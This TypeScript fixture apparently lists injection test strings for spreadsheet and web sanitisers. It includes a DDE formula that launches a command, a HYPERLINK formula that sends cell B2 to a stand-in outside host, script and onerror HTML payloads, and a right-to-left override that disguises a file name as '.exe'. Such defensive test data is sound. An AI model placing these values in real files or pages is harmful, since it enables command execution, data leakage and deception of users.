/** Texts that a spreadsheet or a page would take for more than text, if one let it. */
export const FOREIGN_TEXTS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "'=1+1",
  '"=1+1"',
  '";=1+1;"',
  '=HYPERLINK("https://elsewhere.example/?"&B2,"Pay here")',
  "=cmd|' /C calc'!A0",
  '<img src="x" onerror="document.title=1">',
  "<script>document.title = 1</script>",
  "&lt;b&gt; &amp;",
  "\u202Ecod.exe\u202C",
  "\u2066=1+1\u2069",
  "};=1+1",
];
